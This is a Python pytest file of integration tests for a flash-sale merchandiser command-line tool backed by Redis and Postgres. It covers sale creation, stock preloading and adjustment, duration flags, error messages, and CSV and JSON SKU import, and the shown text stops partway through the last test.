"""Merchandiser setup through the real CLI, against real Redis and Postgres."""

from __future__ import annotations

import argparse
import asyncio
import codecs
import csv
import io
import json
import re
import shlex
import uuid
from collections import Counter
from collections.abc import Awaitable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import redis
from hypothesis import given
from hypothesis import strategies as st

from allocator import sale_reads
from allocator.sale_admin import SaleAdmin
from allocator.sale_reads import SKUS_PER_PART
from allocator.sale_scripts import PreloadResult, StockCounts
from flashsale.cli import build_parser, output
from flashsale.cli.flags import command_parser
from flashsale.cli.sale_views import print_preload, print_status
from flashsale.clients import pg_pool, redis_client
from flashsale.currencies import MINOR_UNITS, bare_amount, in_minor_units
from flashsale.encodings import as_text
from flashsale.errors import InvalidInput
from flashsale.keys import SaleKeys, SkuKeys
from flashsale.salespec import SALE_DEFAULTS, SKU_DEFAULTS, parse_sale, parse_sku, text
from flashsale.settings import Settings
from flashsale.sku_csv import parse_csv
from gateway.app import create_app
from loadtest.bench import discard_sales

from .conftest import Cli, Db
from .harness import longest_stall

SALE: dict[str, Any] = {
    "name": "Sneaker drop",
    "starts_at": "2036-12-01T12:00:00Z",
    "ends_at": "2036-12-01T13:00:00Z",
    "admission_rate": 500,
    "max_queue": 200000,
    "skus": [
        {"sku": "SNK-42", "title": "Sneaker 42", "stock": 100, "price": 12900,
         "currency": "EUR", "per_buyer_limit": 1, "hold_ttl_seconds": 120},
        {"sku": "SNK-43", "stock": 10, "price": 12900, "currency": "EUR"},
    ],
}  # fmt: skip


def write(tmp_path: Path, data: Any, name: str = "sale.json") -> str:
    path = tmp_path / name
    path.write_text(data if isinstance(data, str) else json.dumps(data))
    return str(path)


def create(cli: Cli, tmp_path: Path, data: Any = None) -> str:
    result = cli("sale", "create", "--file", write(tmp_path, data or SALE))
    assert result.code == 0, result.err
    sale_id = result.out.strip()
    assert sale_id.startswith("sale-")
    return sale_id


def status(cli: Cli, sale_id: str) -> dict[str, Any]:
    result = cli("sale", "status", sale_id, "--json")
    assert result.code == 0, result.err
    data: dict[str, Any] = json.loads(result.out)
    return data


def by_sku(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {row["sku"]: row for row in data["skus"]}


def test_create_from_file_json_output_and_defaults(cli: Cli, tmp_path: Path) -> None:
    result = cli("sale", "create", "--file", write(tmp_path, SALE), "--json")
    assert result.code == 0, result.err
    sale = json.loads(result.out)
    assert sale["id"].startswith("sale-")
    assert sale["name"] == "Sneaker drop"
    assert sale["starts_at"] == "2036-12-01T12:00:00.000Z"  # as every answer: to the ms
    skus = {s["sku"]: s for s in sale["skus"]}
    assert skus["SNK-42"]["price"] == 12900
    # Optional fields got their defaults.
    assert skus["SNK-43"] == {
        "sku": "SNK-43", "title": "SNK-43", "stock": 10, "price": 12900, "currency": "EUR",
        "per_buyer_limit": 1, "hold_ttl_seconds": 120, "buckets": 1,
    }  # fmt: skip


def test_create_from_flags(cli: Cli, db: Db) -> None:
    result = cli(
        "sale", "create", "--name", "Flags", "--starts-at", "2036-12-01T12:00:00+01:00",
        "--sku", "CAP", "--stock", "7", "--price", "990", "--currency", "JPY",
        "--limit", "2", "--ttl", "30",
    )  # fmt: skip
    assert result.code == 0, result.err
    sale_id = result.out.strip()
    row = db.rows("SELECT * FROM sale_skus WHERE sale_id = $1", sale_id)[0]
    assert (row["stock_total"], row["per_buyer_limit"], row["hold_ttl_seconds"]) == (7, 2, 30)
    ends = db.val("SELECT ends_at - starts_at FROM sales WHERE id = $1", sale_id)
    assert ends.total_seconds() == 3600  # default duration


def test_round_trip_preload_status_add_stock_lifecycle(
    cli: Cli, db: Db, rdb: redis.Redis, tmp_path: Path
) -> None:
    sale_id = create(cli, tmp_path)
    before = by_sku(status(cli, sale_id))
    assert before["SNK-42"]["preloaded"] is False
    assert before["SNK-42"]["available"] is None

    preload = cli("sale", "preload", sale_id)
    assert preload.code == 0, preload.err
    assert [line.split(": ")[1].split()[0] for line in preload.out.splitlines()[:2]] == [
        "loaded", "loaded"]  # fmt: skip
    rows = by_sku(status(cli, sale_id))
    assert rows["SNK-42"] == {
        "sku": "SNK-42", "title": "Sneaker 42", "stock_total": 100, "available": 100,
        "held": 0, "active": 0, "paying": 0, "sold": 0, "confirmed": 0, "orders": {},
        "preloaded": True, "lost": False, "buckets": 1,
    }  # fmt: skip
    meta = rdb.hgetall(SkuKeys(sale_id, "SNK-42").meta)
    assert meta["per_buyer_limit"] == "1"
    assert meta["hold_ttl_ms"] == "120000"
    assert meta["status"] == "active"
    assert rdb.hget(SaleKeys(sale_id).sale, "skus") == "SNK-42,SNK-43"

    added = cli("sale", "add-stock", sale_id, "SNK-42", "25")
    assert added.code == 0, added.err
    # The SKU changed, not the whole table: a 200,000-SKU sale printed 200,000 rows (6.7 s).
    table = [line.split()[0] for line in added.out.splitlines()[3:]]
    assert table == ["SNK-42"], added.out
    one = cli("sale", "status", sale_id, "--sku", "SNK-43", "--json")
    assert [row["sku"] for row in json.loads(one.out)["skus"]] == ["SNK-43"], one.out
    unknown = cli("sale", "status", sale_id, "--sku", "NOPE")
    assert unknown.code == 1 and "unknown SKU 'NOPE'" in unknown.err, unknown.err
    # ... naming the sale's SKUs, or the one typed in another case (a shop's lower case)
    assert unknown.err.strip().endswith(": its SKUs are SNK-42, SNK-43"), unknown.err
    cased = cli("sale", "status", sale_id, "--sku", "snk-43")
    assert cased.err.strip().endswith("'snk-43' in sale " + sale_id + " (did you mean SNK-43?)")
    rows = by_sku(status(cli, sale_id))
    assert (rows["SNK-42"]["stock_total"], rows["SNK-42"]["available"]) == (125, 125)
    assert (
        db.val("SELECT stock_total FROM sale_skus WHERE sale_id=$1 AND sku='SNK-42'", sale_id)
        == 125
    )

    for action, expected in (("pause", "paused"), ("resume", "active"), ("end", "ended")):
        result = cli("sale", action, sale_id)
        assert result.code == 0, result.err
        assert db.val("SELECT status FROM sales WHERE id = $1", sale_id) == expected
        assert rdb.hget(SkuKeys(sale_id, "SNK-42").meta, "status") == expected
        assert rdb.hget(SaleKeys(sale_id).sale, "status") == expected
    assert status(cli, sale_id)["sale"]["state"] == "ended"

    refused = cli("sale", "resume", sale_id)
    assert refused.code == 1
    assert "has ended" in refused.err
    assert db.val("SELECT status FROM sales WHERE id = $1", sale_id) == "ended"


def test_the_readme_first_sale_is_not_over_whatever_the_day(cli: Cli) -> None:
    """Following "Running a sale" as written, on any day, creates a sale that is scheduled or
    live: a newcomer's first sale is never one that has already ended."""
    root = Path(__file__).resolve().parent.parent
    line = next(text for text in (root / "README.md").read_text().splitlines()
                if "sale create --file examples/" in text)  # fmt: skip
    command = shlex.split(line.split("$(", 1)[1].split(")", 1)[0])
    assert command[:3] == ["$F", "sale", "create"], line
    args = [str(root / a) if a.startswith("examples/") else a for a in command[1:]]
    created = cli(*args, "--json")
    assert created.code == 0, created.err
    sale = json.loads(created.out)
    assert sale["state"] in ("scheduled", "live"), sale
    assert datetime.fromisoformat(sale["ends_at"]) > datetime.now(UTC) + timedelta(minutes=30)


def test_the_readme_gives_the_defaults_the_parser_gives() -> None:
    """The sale file table's "default" column is what a field left out becomes."""
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    said = {}
    for line in readme.splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) == 4 and cells[0].startswith("`") and cells[2].isdigit():
            said[cells[0].strip("`").removeprefix("skus[].")] = int(cells[2])
    given = {k: v for k, v in {**SALE_DEFAULTS, **SKU_DEFAULTS}.items() if isinstance(v, int)}
    assert said == given


def test_starts_in_moves_the_sale_window_and_bad_durations_are_refused(
    cli: Cli, tmp_path: Path
) -> None:
    created = cli("sale", "create", "--file", write(tmp_path, SALE), "--starts-in", "10m",
                  "--json")  # fmt: skip
    assert created.code == 0, created.err
    sale = json.loads(created.out)
    starts = datetime.fromisoformat(sale["starts_at"])
    ends = datetime.fromisoformat(sale["ends_at"])
    assert timedelta(minutes=9) < starts - datetime.now(UTC) <= timedelta(minutes=10)
    assert ends - starts == timedelta(hours=1)  # the file's own length
    assert sale["state"] == "scheduled"
    # A length in more than one unit, largest first, as a person writes it.
    compound = cli("sale", "create", "--file", write(tmp_path, SALE), "--starts-in", "1h30m",
                   "--json")  # fmt: skip
    assert compound.code == 0, compound.err
    starts = datetime.fromisoformat(json.loads(compound.out)["starts_at"])
    assert timedelta(minutes=89) < starts - datetime.now(UTC) <= timedelta(minutes=90)
    for bad in ("10", "-5m", "1w", "0s", "m", "0h0m", "30m1h", "1h1h", "1h 30m", "1.5h"):
        refused = cli("sale", "create", "--file", write(tmp_path, SALE), f"--starts-in={bad}")
        assert refused.code == 2 and "starts-in" in refused.err, (bad, refused.err)
    for bad in ("-5m", "-1.5h", "-10"):  # a value of its own that starts with a minus
        refused = cli("sale", "create", "--file", write(tmp_path, SALE), "--starts-in", bad)
        assert refused.code == 2, (bad, refused.err)
        assert refused.err.strip().splitlines() == [
            "flashsale: error: --starts-in: must be a duration like 90s, 10m, 2h, 1d or 1h30m, "
            f"got {bad!r}"
        ]
    both = cli("sale", "create", "--name", "x", "--starts-at", "2030-01-01T00:00:00Z",
               "--starts-in", "5m")  # fmt: skip
    assert both.code == 2 and "starts-in" in both.err, both.err


def test_a_sku_in_stock_buckets_from_the_cli(cli: Cli, rdb: redis.Redis) -> None:
    hot = "HOT-SNEAKER-LIMITED-EDITION-WHITE-42"  # longer than the SKU column was
    flags = ["--name", "hot", "--sku", hot, "--stock", "10", "--price", "100",
             "--currency", "EUR"]  # fmt: skip
    refused = cli("sale", "create", *flags, "--buckets", "65")
    assert refused.code == 2, refused.err
    assert refused.err.startswith("flashsale: error: --buckets: "), refused.err
    created = cli("sale", "create", *flags, "--buckets", "3")
    assert created.code == 0, created.err
    sale_id = created.out.strip()
    assert cli("sale", "preload", sale_id).code == 0
    shown = cli("sale", "status", sale_id)
    assert shown.code == 0, shown.err
    lines = [line.split() for line in shown.out.splitlines() if "bucket" in line]
    assert [line[:3] for line in lines] == [["bucket", "0", "4"], ["bucket", "1", "3"],
                                            ["bucket", "2", "3"]], shown.out  # fmt: skip
    # In columns under the header: the long SKU pushed its row's figures out of line.
    header = next(line for line in shown.out.splitlines() if "STOCK" in line)
    end = header.index("STOCK") + len("STOCK")
    rows = [line for line in shown.out.splitlines() if line.strip().startswith((hot, "bucket"))]
    assert [line[:end].split()[-1] for line in rows] == ["10", "4", "3", "3"], shown.out
    assert rdb.hget(SkuKeys(sale_id, hot).meta, "buckets") == "3"
    assert rdb.hget(SkuKeys(sale_id, hot, 2, 3).stock, "total") == "3"


def test_preload_is_idempotent(cli: Cli, rdb: redis.Redis, tmp_path: Path) -> None:
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    keys = SkuKeys(sale_id, "SNK-42")
    snapshot = (rdb.hgetall(keys.meta), rdb.hgetall(keys.stock))
    again = cli("sale", "preload", sale_id)
    assert again.code == 0
    assert again.out.count(": unchanged (") == 2
    assert ": loaded (" not in again.out and ": 0 loaded, 2 unchanged;" in again.out
    assert (rdb.hgetall(keys.meta), rdb.hgetall(keys.stock)) == snapshot


def test_a_preload_refused_for_many_skus_names_a_few_and_counts_the_rest(
    cli: Cli, rdb: redis.Redis, tmp_path: Path
) -> None:
    """A sale of 100,000 SKUs that Redis lost was one error line naming all of them (760 KB)."""
    sale_id = create(cli, tmp_path)
    rows = "".join(f"X{n},5,100,EUR\n" for n in range(40))
    assert cli("sale", "import", write(tmp_path, "sku,stock,price,currency\n" + rows, "x.csv"),
               "--sale", sale_id).code == 0  # fmt: skip
    assert cli("sale", "preload", sale_id).code == 0
    for n in range(40):
        rdb.delete(SkuKeys(sale_id, f"X{n}").stock)  # Redis lost them
    lost = cli("sale", "preload", sale_id)
    assert lost.code == 1 and len(lost.err.strip().splitlines()) == 1, lost.err
    assert "X0, X1, X2, X3, X4 and 35 more of the 40 SKUs" in lost.err, lost.err  # as imported
    assert len(lost.err) < 400, len(lost.err)


def _hold(rdb: redis.Redis, keys: SkuKeys, active: int, sold: int) -> None:
    """Simulate units held and sold, as the allocator scripts record them."""
    rdb.hincrby(keys.stock, "available", -(active + sold))
    rdb.hincrby(keys.stock, "active", active)
    rdb.hincrby(keys.stock, "sold", sold)


def test_stock_is_lowered_never_below_held_and_sold(
    cli: Cli, db: Db, rdb: redis.Redis, tmp_path: Path
) -> None:
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    keys = SkuKeys(sale_id, "SNK-42")
    _hold(rdb, keys, active=3, sold=2)
    lowered = cli("sale", "remove-stock", sale_id, "SNK-42", "30")
    assert lowered.code == 0, lowered.err
    assert "SNK-42" in lowered.out and "SNK-43" not in lowered.out, lowered.out
    total = "SELECT stock_total FROM sale_skus WHERE sale_id = $1 AND sku = 'SNK-42'"
    assert db.rows(total, sale_id)[0]["stock_total"] == 70
    assert rdb.hgetall(keys.stock) == {"total": "70", "available": "65", "active": "3",
                                       "paying": "0", "sold": "2"}  # fmt: skip
    # 66 more would leave 4, under the 5 held and sold: refused in Redis, rolled back in
    # Postgres.
    refused = cli("sale", "remove-stock", sale_id, "SNK-42", "66")
    assert refused.code == 1 and "cannot go below 5" in refused.err, refused.err
    assert db.rows(total, sale_id)[0]["stock_total"] == 70
    assert rdb.hget(keys.stock, "total") == "70"
    bad = cli("sale", "remove-stock", sale_id, "SNK-42", "0")
    assert bad.code == 2 and bad.err.startswith("flashsale: error: N: "), bad.err
    # More than the SKU has: said as the most that can come out ("would leave -930 units;
    # at least max(1, sold = 0) must stay", it said).
    too_many = cli("sale", "remove-stock", sale_id, "SNK-42", "1000")
    assert too_many.code == 2, too_many.err
    assert too_many.err.strip() == (
        "flashsale: error: N: at most 69 of SNK-42's 70 units can come out: a SKU keeps "
        "at least one (remove the SKU to take it out of the sale)"
    )


def test_stock_raised_and_lowered_at_once_ends_as_postgres_says(
    stack: Settings, cli: Cli, db: Db, rdb: redis.Redis, tmp_path: Path
) -> None:
    """A rise was copied to Redis after its commit, from its own row: a fall committed
    meanwhile was overwritten by the late rise, and Redis held 40 units more than
    Postgres (120 against 80) until a reconcile pass: units Postgres never had could be
    sold. Redis now takes the SKU's total as Postgres has it when the rise is copied."""
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    total = db.val("SELECT stock_total FROM sale_skus WHERE sale_id = $1 AND sku = 'SNK-42'",
                   sale_id)  # fmt: skip

    async def at_once() -> None:
        pool, client = await pg_pool(stack, max_size=4), redis_client(stack)
        try:
            admin = SaleAdmin.build(pool, client)
            sync, late = admin._sync_sku, [0.3]

            async def slow_once(*args: Any, **kwargs: Any) -> Any:
                if late:  # the rise's copy to Redis is slow (a busy Redis, a paused process)
                    await asyncio.sleep(late.pop())
                return await sync(*args, **kwargs)

            admin._sync_sku = slow_once  # type: ignore[method-assign]
            rise = asyncio.ensure_future(admin.add_stock(sale_id, "SNK-42", 20))
            await asyncio.sleep(0.1)  # committed; its copy to Redis waits
            await admin.lower_stock(sale_id, "SNK-42", 40)
            await rise
        finally:
            await client.aclose()
            await pool.close()

    asyncio.run(at_once())
    now = db.val("SELECT stock_total FROM sale_skus WHERE sale_id = $1 AND sku = 'SNK-42'",
                 sale_id)  # fmt: skip
    assert now == total - 20
    assert rdb.hget(SkuKeys(sale_id, "SNK-42").stock, "total") == str(now)


def test_a_sku_nobody_reserved_can_be_removed(
    cli: Cli, db: Db, rdb: redis.Redis, tmp_path: Path
) -> None:
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    held = SkuKeys(sale_id, "SNK-42")
    _hold(rdb, held, active=1, sold=0)
    kept = cli("sale", "remove-sku", sale_id, "SNK-42")
    assert kept.code == 1 and "stays in the sale" in kept.err
    assert rdb.exists(held.stock) and db.rows(
        "SELECT 1 FROM sale_skus WHERE sale_id = $1 AND sku = 'SNK-42'", sale_id)  # fmt: skip
    removed = cli("sale", "remove-sku", sale_id, "SNK-43")
    assert removed.code == 0, removed.err
    gone = SkuKeys(sale_id, "SNK-43")
    assert not rdb.exists(gone.meta) and not rdb.exists(gone.stock)
    assert not db.rows("SELECT 1 FROM sale_skus WHERE sale_id = $1 AND sku = 'SNK-43'", sale_id)
    assert rdb.hget(SaleKeys(sale_id).sale, "skus") == "SNK-42"
    assert cli("sale", "remove-sku", sale_id, "SNK-43").code == 1  # unknown now


def test_the_last_sku_of_a_preloaded_sale_stays(cli: Cli, db: Db, tmp_path: Path) -> None:
    """Removing it left a live sale with nothing to sell whose waiting room took buyers and
    told them "waiting", about to be admitted, for good (the pump has no SKU to admit to)."""
    sale_id = create(cli, tmp_path, _sku())
    assert cli("sale", "preload", sale_id).code == 0
    kept = cli("sale", "remove-sku", sale_id, "SNK-42")
    assert kept.code == 1, kept.err
    assert "last SKU" in kept.err and "sale end" in kept.err, kept.err
    assert db.rows("SELECT 1 FROM sale_skus WHERE sale_id = $1", sale_id)
    draft = create(cli, tmp_path, _sku())  # never preloaded: nothing reached buyers
    assert cli("sale", "remove-sku", draft, "SNK-42").code == 0


def test_preload_refuses_with_holds_and_force_keeps_them(
    cli: Cli, db: Db, rdb: redis.Redis, tmp_path: Path
) -> None:
    sale_id = create(cli, tmp_path)
    assert cli("sale", "preload", sale_id).code == 0
    keys = SkuKeys(sale_id, "SNK-42")
    _hold(rdb, keys, active=3, sold=2)

    # Unchanged configuration: still a no-op, holds or not.
    assert "unchanged" in cli("sale", "preload", sale_id).out

    db.execute("UPDATE sale_skus SET price = 9900 WHERE sale_id = $1 AND sku = 'SNK-42'", sale_id)
    snapshot = (rdb.hgetall(keys.meta), rdb.hgetall(keys.stock))
    refused = cli("sale", "preload", sale_id)
    assert refused.code == 1
    assert "SNK-42" in refused.err
    assert "--force" in refused.err
    assert (rdb.hgetall(keys.meta), rdb.hgetall(keys.stock)) == snapshot

    forced = cli("sale", "preload", sale_id, "--force")
    assert forced.code == 0, forced.err
    stock = rdb.hgetall(keys.stock)
    assert stock == {"total": "100", "available": "95", "active": "3", "paying": "0", "sold": "2"}
    assert rdb.hget(keys.meta, "price") == "9900"

    # Even --force never lets the total fall below held + sold units.
    db.execute(
        "UPDATE sale_skus SET stock_total = 4 WHERE sale_id = $1 AND sku = 'SNK-42'", sale_id
    )
    below = cli("sale", "preload", sale_id, "--force")
    assert below.code == 1
    assert "exceed the new stock" in below.err
    assert rdb.hgetall(keys.stock) == stock


def test_preloading_many_skus_prints_a_summary_not_a_line_each(cli: Cli, tmp_path: Path) -> None:
    """A sale of 200,000 SKUs printed 200,000 lines at preload; a few SKUs are still listed."""
    sale_id = create(cli, tmp_path)  # two SKUs
    few = cli("sale", "preload", sale_id)
    assert few.code == 0, few.err
    assert [line.split(":")[0] for line in few.out.splitlines()[:-1]] == ["SNK-42", "SNK-43"]
    rows = "".join(f"K{i},Item {i},5,100,EUR\n" for i in range(30))
    path = write(tmp_path, "sku,title,stock,price,currency\n" + rows, "many.csv")
    assert cli("sale", "import", path, "--sale", sale_id).code == 0
    for outcome in ("30 loaded, 2 unchanged", "0 loaded, 32 unchanged"):
        many = cli("sale", "preload", sale_id)
        assert many.code == 0, many.err
        units = sum(r["stock_total"] for r in status(cli, sale_id)["skus"])
        assert many.out.splitlines() == [
            f"preloaded the 32 SKUs of {sale_id}: {outcome}; {units:,} units ({units:,} "
            f"available, 0 held, 0 sold); per SKU: flashsale sale status {sale_id}"
        ], many.out


def test_a_preload_of_one_unit_says_unit(capsys: pytest.CaptureFixture[str]) -> None:
    """The summary said "1 units" for a sale of one unit."""
    one = PreloadResult("SNK", "loaded", StockCounts(1, 1, 0, 0, 0))
    print_preload("s", [one])
    assert capsys.readouterr().out.splitlines()[-1] == (
        "preloaded the 1 SKU of s: 1 loaded, 0 unchanged; 1 unit (1 available, 0 held, 0 sold)"
    )


def test_seconds_flags_take_a_duration_as_starts_in_does(cli: Cli, db: Db) -> None:
    """`--starts-in 5m` takes a duration; `--ttl 10m` and `--window 2m` were refused as "a
    positive number of seconds"."""
    created = cli("sale", "create", "--name", "Durations", "--sku", "A", "--stock", "5",
                  "--price", "100", "--currency", "EUR", "--ttl", "10m",
                  "--starts-in", "1h")  # fmt: skip
    assert created.code == 0, created.err
    sale_id = created.out.strip()
    for command in (("update", sale_id, "--window", "2m"),
                    ("update-sku", sale_id, "A", "--ttl", "1m30s")):  # fmt: skip
        changed = cli("sale", *command)
        assert changed.code == 0, changed.err
    row = db.rows("SELECT hold_ttl_seconds FROM sale_skus WHERE sale_id = $1", sale_id)[0]
    sale = db.rows("SELECT admission_window_seconds FROM sales WHERE id = $1", sale_id)[0]
    assert (row["hold_ttl_seconds"], sale["admission_window_seconds"]) == (90, 120)
    refused = cli("sale", "update", sale_id, "--window", "2x")
    assert refused.code == 2 and refused.err.startswith("flashsale: error: --window: "), refused
    # A duration of nothing is judged by the field's own rule, as 0 is: it was "must be
    # longer than 0s" of a window whose least is 5 s
    for typed, got in (("0", "0"), ("0s", "0s (0 seconds)")):
        refused = cli("sale", "update", sale_id, "--window", typed)
        said = f"flashsale: error: --window: must be a number of seconds from 5 to 3600, got {got}"
        assert (refused.code, refused.err.strip()) == (2, said), refused


def test_a_duration_refused_is_shown_as_typed(cli: Cli) -> None:
    """`--window 3h` was refused with "got 10800", and `sale update --ends-in 1m` with a moment:
    figures nobody typed. Each flag that takes a duration, on each command that has it, shows
    what was typed and what it came to."""
    flags = ["--name", "Long", "--sku", "A", "--stock", "5", "--price", "100",
             "--currency", "EUR", "--starts-in", "1h"]  # fmt: skip
    made = cli("sale", "create", *flags)
    assert made.code == 0, made.err
    sale_id = made.out.strip()
    for command, flag, got in (
        (("create", *flags, "--window", "3h"), "--window", r"3h \(10800 seconds\)"),
        (("update", sale_id, "--window", "3h"), "--window", r"3h \(10800 seconds\)"),
        (("create", *flags, "--ttl", "2d"), "--ttl", r"2d \(172800 seconds\)"),
        (("update-sku", sale_id, "A", "--ttl", "2d"), "--ttl", r"2d \(172800 seconds\)"),
        # the end a duration names, refused for being before the start
        (("update", sale_id, "--ends-in", "1m"), "--ends-in", r"1m \(\d{4}-[\d-]+T[\d:]+Z\)"),
    ):
        refused = cli("sale", *command)
        assert refused.code == 2 and refused.err.startswith(f"flashsale: error: {flag}: "), refused
        assert re.search(f"got {got}$", refused.err.strip()), refused.err


def test_create_takes_every_setting_update_takes(cli: Cli) -> None:
    """`sale update` set the admission window, the capacity and the proof of work; `sale
    create` from flags had none of them (an unknown flag), so a sale made by flags took a
    second command, or a sale file, for any of them."""
    flags = ["--name", "Guarded", "--sku", "A", "--stock", "5", "--price", "100",
             "--currency", "EUR", "--starts-in", "1h"]  # fmt: skip
    made = cli("sale", "create", *flags, "--window", "2m", "--capacity", "50",
               "--challenge", "8", "--challenge-max", "12", "--json")  # fmt: skip
    assert made.code == 0, made.err
    sale = json.loads(made.out)
    assert (sale["admission_window_seconds"], sale["admission_capacity"], sale["join_challenge"],
            sale["join_challenge_max"]) == (120, 50, 8, 12), sale  # fmt: skip
    refused = cli("sale", "create", *flags, "--challenge", "30")
    assert refused.code == 2 and refused.err.startswith("flashsale: error: --challenge: "), refused
    # What joins are asked is in the status an operator reads, as the queue is.
    status = cli("sale", "status", sale["id"]).out.splitlines()
    assert "  proof of work at join: 8 bits, up to 12 as the joins outpace admissions" in status
    # Another field a refusal names is named as typed too, not by the sale file's name for it.
    for command in (("create", *flags), ("update", sale["id"])):
        refused = cli("sale", *command, "--challenge", "8", "--challenge-max", "4")
        assert (refused.code, refused.err.strip()) == (2, "flashsale: error: --challenge-max: "
            "must be at least --challenge, 8, or 0 to keep the difficulty fixed, got 4"
        ), refused  # fmt: skip
    # A setting the refusal names that was not typed is named by its flag too, with its value.
    refused = cli("sale", "update", sale["id"], "--challenge", "14")
    assert (refused.code, refused.err.strip()) == (2, "flashsale: error: --challenge: must be "
        "at most --challenge-max, 12 (the most the sale asks as the joins rise), got 14"
    ), refused  # fmt: skip
    parser = build_parser()
    create, update = ({f for a in command_parser(parser, parser.parse_args(argv))._actions
                       for f in a.option_strings}
                      for argv in (["sale", "create"], ["sale", "update", "s"]))  # fmt: skip
    assert update <= create, update - create


def test_import_takes_the_sale_first_as_every_sale_command_does(cli: Cli, tmp_path: Path) -> None:
    """`sale preload SALE`, `sale add-stock SALE SKU N`: a merchandiser who wrote `sale import
    SALE FILE` was told --sale is required."""
    sale_id = create(cli, tmp_path)
    path = write(tmp_path, "sku,title,stock,price,currency\nK1,Item,5,100,EUR\n", "k1.csv")
    first = cli("sale", "import", sale_id, path)
    assert (first.code, first.out.splitlines()[-1:]) == (
        0,
        [f"imported 1 SKU into {sale_id}; run `flashsale sale preload {sale_id}`"],
    ), first
    again = cli("sale", "import", write(tmp_path, "sku,stock,price,currency\nK2,5,100,EUR\n",
                                        "k2.csv"), "--sale", sale_id)  # fmt: skip
    assert again.code == 0, again.err  # as before
    twice = cli("sale", "import", sale_id, path, "--sale", sale_id)
    alone = cli("sale", "import", path)
    for refused, said in ((twice, "the sale is given twice"), (alone, "which sale? ")):
        assert (refused.code, refused.err.count("\n")) == (2, 1) and said in refused.err, refused
        assert refused.err.startswith("flashsale: error: "), refused  # one line, naming it


def test_an_empty_file_is_said_to_be_empty(cli: Cli, tmp_path: Path) -> None:
    """`sale create --file F` of an empty file (a command's output sent there after it failed)
    was told "malformed JSON at line 1 column 1: Expecting value", and `sale import S F` of
    an empty F, even F.json, "csv: is empty: expected a header row", naming a field nobody
    typed."""
    sale_id = create(cli, tmp_path)
    for blank in ("", "\n\n", "\ufeff \r\n"):
        path = write(tmp_path, blank, "next.json")
        made = cli("sale", "create", "--file", path)
        assert (made.code, made.err) == (2, (
            f"flashsale: error: --file: {path} is empty: expected a sale file, JSON like "
            '{"name": ..., "skus": [...]}\n')), made  # fmt: skip
        added = cli("sale", "import", sale_id, path)
        assert (added.code, added.err) == (2, (
            f"flashsale: error: file: {path} is empty: expected CSV with a header row "
            'sku,title,stock,price,currency,... or JSON {"skus": [...]}\n')), added  # fmt: skip


def test_import_csv_adds_skus(cli: Cli, db: Db, tmp_path: Path) -> None:
    sale_id = create(cli, tmp_path)
    csv_path = write(
        tmp_path,
        "sku,title,stock,price,currency,per_buyer_limit,hold_ttl_seconds\n"
        "HOOD-M,Hoodie M,50,5900,EUR,2,300\nCAP,,200,1900,USD,,\n",
        "skus.csv",
    )
    result = cli("sale", "import", csv_path, "--sale", sale_id)
    assert result.code == 0, result.err
    rows = {r["sku"]: r for r in db.rows("SELECT * FROM sale_skus WHERE sale_id=$1", sale_id)}
    assert set(rows) == {"SNK-42", "SNK-43", "HOOD-M", "CAP"}
    assert (rows["CAP"]["title"], rows["CAP"]["per_buyer_limit"]) == ("CAP", 1)
    # The same file again (a second run of a script): every SKU it would add twice is named,
    # as a file's bad cells are, not the first alone; and nothing is written.
    again = cli("sale", "import", csv_path, "--sale", sale_id)
    assert again.code == 2
    assert again.err.strip() == (
        f"flashsale: error: row 2.sku: SKU 'HOOD-M' already exists in {sale_id} (2 errors; "
        f"also row 3.sku: SKU 'CAP' already exists in {sale_id})"
    ), again.err
    assert len(db.rows("SELECT sku FROM sale_skus WHERE sale_id=$1", sale_id)) == 4


def test_skus_in_json_import_as_the_admin_api_takes_them(
    cli: Cli, db: Db, counts: Any, tmp_path: Path
) -> None:
    """A JSON file of SKUs was read as CSV: "csv.header.{: unknown column", or (a list)
    "malformed CSV". The admin API took {"skus": [...]}; both now take the list alone too."""
    sale_id = create(cli, tmp_path)
    sku = {"sku": "J1", "stock": 3, "price": 100, "currency": "EUR"}
    for n, data in enumerate(({"skus": [sku]}, [{**sku, "sku": "J2"}])):
        done = cli("sale", "import", write(tmp_path, data, f"skus{n}.json"), "--sale", sale_id)
        assert done.code == 0, done.err
    skus = {r["sku"] for r in db.rows("SELECT sku FROM sale_skus WHERE sale_id=$1", sale_id)}
    assert {"J1", "J2"} <= skus, skus
    before = counts()
    whole = cli("sale", "import", write(tmp_path, {**SALE, "skus": [{**sku, "sku": "J3"}]}),
                "--sale", sale_id)  # fmt: skip
    assert whole.code == 2, whole.err
    [line] = whole.err.strip().splitlines()
    assert line.startswith("flashsale: error: ") and "sale create --file" in line, line
    bad = cli("sale", "import", write(tmp_path, [{**sku, "stock": 0}], "bad.json"), "--sale",
              sale_id)  # fmt: skip
    assert bad.err.startswith("flashsale: error: skus[0].stock: "), bad.err
    assert counts() == before


def test_a_csv_saved_by_excel_imports(cli: Cli, db: Db, tmp_path: Path) -> None:
    # UTF-8 with a byte-order mark and CRLF line ends, as Excel writes "CSV UTF-8".
    sale_id = create(cli, tmp_path)
    path = tmp_path / "excel.csv"
    path.write_bytes("sku,title,stock,price,currency\r\nTEE-L,Tee L,10,1900,EUR\r\n"
                     .encode("utf-8-sig"))  # fmt: skip
    result = cli("sale", "import", str(path), "--sale", sale_id)
    assert result.code == 0, result.err
    assert db.rows("SELECT title FROM sale_skus WHERE sale_id=$1 AND sku='TEE-L'", sale_id)


def test_a_csv_saved_by_a_european_excel_imports() -> None:
    """Excel set to German, French or Italian saves "CSV" with semicolons between columns
    (the comma is their decimal mark), and a copy from a sheet is tab-separated: both were
    refused ("columns must be separated by commas, found ';'"), so the merchandiser
    had to change the computer's region to export a file."""
    semi = parse_csv("\ufeffSKU;Title;Stock;Price;Currency\r\nA1;Schuh, rot;5;14999;EUR\r\n"
                     "B2;\"Stiefel; hoch\";3;19999;EUR\r\n;;;;\r\n")  # fmt: skip
    assert [(s.sku, s.title, s.price) for s in semi.skus] == [
        ("A1", "Schuh, rot", 14999), ("B2", "Stiefel; hoch", 19999)]  # fmt: skip
    tabs = parse_csv("sku\ttitle\tstock\tprice\tcurrency\nA1\tShoe, red\t5\t100\tEUR\n")
